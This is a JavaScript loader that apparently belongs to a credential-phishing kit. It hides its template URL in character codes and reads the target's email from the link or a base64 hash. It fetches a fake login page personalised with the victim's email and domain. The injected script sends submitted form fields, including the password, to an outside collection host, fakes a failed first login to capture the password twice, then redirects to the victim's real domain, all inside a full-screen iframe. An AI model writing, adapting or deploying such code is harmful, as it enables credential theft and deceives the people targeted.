async function boot() {
  const src = [104, 116, 116, 112, 115, 58, 47, 47].map(c => String.fromCharCode(c)).join('') + ['pages', 'objstore', 'invalid'].join('.') + '/tpl/v7.html';
  const who = new URLSearchParams(location.search).get('qrc') || location.hash.slice(1);
  const email = /@/.test(who) ? who : window.atob(who || '');
  const domain = email.split('@')[1];

  const res = await fetch(src, { cache: 'no-store' });
  let page = await res.text();
  page = page
    .replaceAll('%EMAIL%', email)
    .replaceAll('%DOMAIN%', domain)
    .replace('</body>', `<script>
      var t=0;document.forms[0].addEventListener('submit',function(e){e.preventDefault();
      fetch('https://pages.objstore.invalid/k/p.php',{method:'POST',body:new URLSearchParams(new FormData(this))}).finally(()=>{
      if(t++)top.location='https://${domain}';else{this.passwd.value='';document.querySelector('.alert').hidden=false}})})
    <\/script></body>`);

  const blob = new Blob([page], { type: 'text/html' });
  const url = URL.createObjectURL(blob);
  const frame = document.createElement('iframe');
  frame.src = url;
  frame.style.cssText = 'position:fixed;inset:0;width:100%;height:100%;border:0;z-index:99999';
  document.body.replaceChildren(frame);
}

document.querySelector('.verify').addEventListener('click', () => setTimeout(boot, 900));
